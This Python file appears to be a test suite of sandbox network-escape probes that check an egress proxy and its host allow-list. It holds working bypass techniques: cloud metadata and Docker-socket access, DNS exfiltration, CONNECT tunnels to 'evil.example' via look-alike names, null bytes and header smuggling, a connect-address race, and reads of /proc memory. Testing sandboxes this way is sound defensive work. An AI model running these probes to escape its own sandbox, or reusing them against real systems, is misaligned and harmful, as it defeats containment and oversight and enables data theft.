"""Attempts on the network: to reach anything but the hosts on the list."""

import os
import socket
import urllib.parse


def connect(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as connection:
        connection.settimeout(3)
        connection.connect(address)
    return f"connected to {address!r}"


def tcp_to_host(bait):
    """services that listen on the machine's loopback, such as Temporal or a database"""
    return connect(socket.AF_INET, ("127.0.0.1", bait["tcp_port"]))


def tcp_to_the_world(bait):
    """any server, to hand over what was found"""
    for address in ("1.1.1.1", "93.184.216.34"):
        try:
            return connect(socket.AF_INET, (address, 443))
        except OSError:
            continue
    return None


def tcp_over_ipv6(bait):
    """the same over IPv6"""
    return connect(socket.AF_INET6, ("::1", bait["tcp_port"]))


def metadata(bait):
    """the cloud machine's credentials"""
    return connect(socket.AF_INET, ("169.254.169.254", 80))


def udp_to_host(bait):
    """a name server or log daemon of the machine"""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.sendto(b"hello", ("127.0.0.1", bait["udp_port"]))  # the host listens
    return None


def look_up_names(bait):
    """a way out through DNS, a label at a time"""
    answers = socket.getaddrinfo("secret-goes-here.example.com", 443)
    return answers or None


def ask_name_server(bait):
    """the same, past the system's resolver"""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.settimeout(3)
        query = b"\0\1\1\0\0\1\0\0\0\0\0\0\7example\3com\0\0\1\0\1"
        datagrams.sendto(query, ("8.8.8.8", 53))
        return datagrams.recv(512)


def raw_socket(bait):
    """packets with any sender"""
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
    return "made"


def packet_socket(bait):
    """everybody's packets, read off the wire"""
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300).close()
    return "made"


def netlink_socket(bait):
    """the machine's network settings"""
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close()
    return "made"


def other_families(bait):
    """rarely tested corners of the kernel, and the hypervisor by vsock"""
    made = []
    for family in (40, 38, 31, 29, 17, 9, 21, 16):
        try:
            socket.socket(family, socket.SOCK_STREAM).close()
        except OSError:
            continue
        made.append(family)
    return made or None


def listen(bait):
    """a service of its own on the machine's address"""
    listener = socket.socket()
    listener.bind(("0.0.0.0", 0))
    listener.listen()
    return listener.getsockname()


def listen_unbound(bait):
    """the same, by listen alone, which picks a port by itself"""
    listener = socket.socket()
    listener.listen()
    return listener.getsockname()


def other_protocols(bait):
    """services of the machine, by a stream socket that is not TCP (MPTCP, SCTP, SMC)"""
    made = []
    for family in (socket.AF_INET, socket.AF_INET6, 43, 30, 21):
        for protocol in (262, 132, 256, 1, 33, 136):
            for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, 6):
                try:
                    connection = socket.socket(family, kind, protocol)
                except OSError:
                    continue
                made.append((family, kind, protocol))
                connection.close()
    return made or None


def pass_descriptors(bait):
    """files and memory that nobody can see, in flight in a socket"""
    here, there = socket.socketpair()
    socket.send_fds(here, [b"x"], [0])
    return "sent", there


def abstract_socket(bait):
    """a service of the machine that has no file, such as a session bus"""
    return connect(socket.AF_UNIX, "\0" + bait["abstract"])


def path_socket(bait):
    """a service of the machine with a socket file, such as Docker"""
    for path in (bait["socket"], "/run/dbus/system_bus_socket", "/var/run/docker.sock"):
        try:
            return connect(socket.AF_UNIX, path)
        except OSError:
            continue
    return None


# the following run with a network route, so with a proxy in HTTPS_PROXY


def ask(request, rest=b""):
    """The proxy's status for a raw request, and the proxy's address; with its password if any."""
    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
    with socket.create_connection((proxy.hostname, proxy.port), timeout=10) as connection:
        head = request
        if proxy.username:
            import base64

            pair = base64.b64encode(f"{proxy.username}:{proxy.password}".encode())
            head += b"\r\nProxy-Authorization: Basic " + pair
        connection.sendall(head + b"\r\n\r\n" + rest)
        answer = connection.recv(4096)
    return int(answer.split()[1]) if answer else None


def tunnel(target):
    if not isinstance(target, bytes):
        target = target.encode()
    status = ask(b"CONNECT " + target + b" HTTP/1.1\r\nHost: x")
    return f"{target!r} answered {status}" if status and status < 300 else None


def first(targets):
    return next((won for target in targets if (won := tunnel(target))), None)


def other_host(bait):
    """a server of its own, through the proxy"""
    return tunnel("evil.example:443")


def look_alike_host(bait):
    """the same, under a name that looks allowed"""
    allowed = bait["allowed"]
    return first(
        f"{name}:443"
        for name in (
            f"{allowed}.evil.example",
            f"evil-{allowed}",
            f"evil.{allowed}",
            allowed.replace(".", "-", 1) + ".example",
            allowed.replace("a", "\u0430"),
        )
    )


def trailing_dot(bait):
    """the same, by a name that compares as another"""
    return first([f"{bait['allowed']}.:443", f"{bait['allowed']}..:443", f".{bait['allowed']}:443"])


def mixed_case(bait):
    """the same, by a name that compares as another"""
    return first([f"{bait['allowed'].upper()}:443", f"{bait['allowed'].title()}:443"])


def user_information(bait):
    """the same, with the allowed name in front of an @"""
    return first([f"{bait['allowed']}@evil.example:443", f"evil.example:443@{bait['allowed']}:443"])


def other_port(bait):
    """mail or ssh on an allowed host"""
    ports = ("80", "22", "0443", "443.0", "+443", "", "65979", "4430", " 443", "443 ", "-1")
    return first(f"{bait['allowed']}:{port}" for port in ports)


def address_literals(bait):
    """services of the machine and the local network, by address"""
    port = bait["tcp_port"]
    names = ("127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f000001", "0177.0.0.1")
    more = ("169.254.169.254", "10.0.0.1", "localhost", "127.1", "[fe80::1%25lo]", "0", "[::]")
    return first(f"{name}:{number}" for name in names + more for number in (443, port))


def null_byte(bait):
    """a name that ends early for whoever reads it in C"""
    allowed = bait["allowed"].encode()
    return first(
        [
            allowed + b"\0.evil.example:443",
            allowed + b"%00.evil.example:443",
            allowed + b":443\0",
            b"\0" + allowed + b":443",
        ]
    )


def smuggled_header(bait):
    """a second request inside the first"""
    allowed = bait["allowed"].encode()
    return first(
        [
            allowed + b":443 HTTP/1.1\r\nHost: evil.example\r\n\r\nCONNECT evil.example:443",
            allowed + b":443\tevil.example:443",
            allowed + b":443/../evil.example:443",
            b"http://" + allowed + b":443",
        ]
    )


def plain_requests(bait):
    """a proxy that fetches pages without a tunnel"""
    for method in (b"GET", b"POST", b"PUT", b"OPTIONS", b"connect"):
        url = b"http://" + bait["allowed"].encode() + b"/"
        status = ask(method + b" " + url + b" HTTP/1.1\r\nHost: " + bait["allowed"].encode())
        if status and status < 300:
            return method.decode()
    return None


def endless_head(bait):
    """the proxy's memory, by a request that never ends"""
    status = ask(b"CONNECT x:443 HTTP/1.1\r\nX: " + b"a" * 100_000)
    return status if status and status < 300 else None


def silent_connections(bait):
    """the worker's descriptors, by connections that say nothing"""
    import time

    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
    reading, writing = os.pipe()
    for _ in range(8):
        if os.fork() == 0:
            held = []
            for _ in range(90):
                try:
                    held.append(socket.create_connection((proxy.hostname, proxy.port), timeout=2))
                except OSError:
                    break
            time.sleep(1)
            os.write(writing, bytes([sum(map(_still_open, held))]))
            os._exit(0)
    os.close(writing)
    kept = b""
    while chunk := os.read(reading, 100):
        kept += chunk
    # with a forwarder, some wait in its queue, and are no descriptors of the worker's
    return sum(kept) if sum(kept) > 200 else None


def _still_open(connection):
    connection.setblocking(False)
    try:
        connection.recv(1)
    except BlockingIOError:
        return True
    except OSError:
        return False
    return False


def private_answer(bait):
    """services of the local network, by an allowed name that points there"""
    return tunnel(f"{bait['private']}:443")


def past_the_proxy(bait):
    """any server, without the proxy"""
    for name in ("HTTPS_PROXY", "https_proxy"):
        os.environ.pop(name)
    return tcp_to_host(bait) or tcp_to_the_world(bait)


def fast_open(bait):
    """services of the machine, by data that is sent before a connection"""
    address = ("127.0.0.1", bait["tcp_port"])
    for way in ("sendto", "sendmsg", "option"):
        with socket.socket() as connection:
            connection.settimeout(3)
            try:
                if way == "sendto":
                    connection.sendto(b"x", socket.MSG_FASTOPEN, address)
                elif way == "sendmsg":
                    connection.sendmsg([b"x"], [], socket.MSG_FASTOPEN, address)
                else:
                    connection.setsockopt(socket.IPPROTO_TCP, 30, 1)
                    connection.connect(address)
                    connection.send(b"x")
            except OSError:
                continue
            return way
    return None


def protocol_on_top(bait):
    """a protocol of the kernel's put on top of a TCP socket, and with it another connect"""
    for name in (b"smc", b"tls", b"mptcp", b"espintcp"):
        with socket.socket() as connection:
            try:
                connection.setsockopt(socket.IPPROTO_TCP, 31, name)
            except OSError:
                continue
            return name
    return None


def other_protocols_beside_the_proxy(bait):
    """any server, by a stream socket that is not TCP"""
    return other_protocols(bait)


def listen_beside_the_proxy(bait):
    """a service of its own on the machine's address, for whoever connects"""
    for way in (listen_unbound, listen):
        try:
            return way(bait)
        except OSError:
            continue
    return None


def same_port_elsewhere(bait):
    """a server of its own that listens on the proxy's port number"""
    port = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"]).port
    for address in ("127.0.0.2", "127.1.2.3", "1.1.1.1"):
        try:
            return connect(socket.AF_INET, (address, port))
        except OSError:
            continue
    return None


def change_address_meanwhile(bait):
    """services of the machine, by an address that changes while connect looks at it"""
    import ctypes
    import struct
    import threading

    libc = ctypes.CDLL(None, use_errno=True)
    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"]).port
    right, wrong = (
        struct.pack("=H2s4s8x", socket.AF_INET, port.to_bytes(2, "big"), b"\x7f\0\0\1")
        for port in (proxy, bait["tcp_port"])
    )
    there = ctypes.create_string_buffer(16)
    going = True

    def change():
        while going:
            ctypes.memmove(there, right, 16)
            ctypes.memmove(there, wrong, 16)

    thread = threading.Thread(target=change)
    thread.start()
    try:
        for _ in range(100):
            with socket.socket() as connection:
                if libc.connect(connection.fileno(), there, 16) == 0:
                    peer = connection.getpeername()
                    if peer[1] != proxy:
                        return peer
    finally:
        going = False
        thread.join()
    return None


def udp_beside_the_proxy(bait):
    """any server, by UDP, which no proxy sees"""
    udp_to_host(bait)
    return ask_name_server(bait)


def unix_beside_the_proxy(bait):
    """a service of the machine, by the family that the forwarder uses"""
    return connect(socket.AF_UNIX, "/run/egress")


def tamper_with_forwarder(bait):
    """the descriptors of the forwarder, to see what it can reach"""
    for name in filter(str.isdigit, os.listdir("/proc")):
        with open(f"/proc/{name}/cmdline", "rb") as file:
            words = file.read().split(b"\0")
        if b"sandbox.forward" not in words or b"--args" in words:
            continue
        for way in (f"/proc/{name}/mem", f"/proc/{name}/fd/0", f"/proc/{name}/fd/5"):
            try:
                os.close(os.open(way, os.O_RDWR))
            except OSError:
                continue
            return way
    return None
